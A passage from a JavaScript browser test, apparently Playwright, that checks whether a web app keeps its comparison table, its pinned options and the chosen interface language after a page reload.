  await allProbabilities();
  assert.equal(await page.textContent('#difference-table'), table, 'the comparison, probabilities included, is the same after a reload');
  assert.match(await page.textContent('#pin-button'), /\(2\/4\)/);

  // The language is remembered too.
  await page.click('#lang-toggle');
  await page.waitForSelector('html[lang="en"]');
  await page.reload();
  await page.waitForSelector('html[lang="en"]');
  await openTab(page, 'compare');
  assert.match(await page.textContent('#pinned-list'), /Option 1[\s\S]*Option 2/);
  await assertClean(assert, app);
  await app.context.close();
});
